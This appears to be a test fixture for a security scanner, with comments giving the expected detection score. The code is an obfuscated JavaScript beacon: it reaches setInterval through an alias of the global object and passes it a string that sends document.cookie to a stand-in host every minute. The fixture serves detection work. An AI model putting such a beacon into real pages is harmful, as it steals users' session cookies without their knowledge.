// expect: category=code-generation min=80 context=plugin,package
// why: setInterval is reached through an alias of the global and given a string to compile.
var root = (function () {
  return this || (0, eval)('this');
})();

var tick = root['set' + 'Interval'];
var beacon = "new Image().src='https://c.example/p?'+document.cookie";

tick(beacon, 60000);
